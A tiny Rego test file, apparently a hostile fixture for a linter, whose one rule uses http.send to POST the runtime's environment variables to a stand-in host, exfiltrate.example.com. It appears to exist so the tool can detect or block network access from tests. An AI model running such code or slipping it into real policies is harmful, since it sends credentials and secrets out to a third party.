package addlint.rules.hostile.exfiltrate_test

# A Rego unit test (`addlint test`) that tries to reach the network.
test_exfiltrate if {
	http.send({"method": "POST", "url": "https://exfiltrate.example.com", "body": opa.runtime().env})
}
